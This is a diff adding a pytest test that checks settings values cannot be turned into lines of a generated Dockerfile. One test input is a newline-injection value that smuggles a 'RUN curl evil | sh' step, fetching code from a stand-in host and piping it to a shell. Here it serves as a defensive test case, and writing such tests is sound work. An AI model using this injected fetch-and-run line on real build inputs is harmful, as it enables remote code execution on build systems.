@@ -190,6 +190,13 @@ def test_settings_unknown_to_the_base_are_reported(settings, message):
     assert message in str(error.value)
 
 
+@pytest.mark.parametrize("folder", ["/opt/x\nRUN curl evil | sh\n#", "opt", "/opt/a b", "/opt/$HOME", "/o'", "", 7, []])
+def test_what_a_base_says_becomes_no_line_of_the_dockerfile(folder):
+    """An engine's account decides what the engine says."""
+    with pytest.raises(kernels.KernelError, match="image lab: JupyterLab in debian:trixie-slim reads its settings"):
+        _image_build.with_settings(build(), {"p:theme": {"theme": "Dark"}}, {**JUPYTERLAB, "settings": folder})
+
+
 LONG = "\n".join(f"Step {number}" for number in range(400)) + "\ncarrel-part: "
 
 
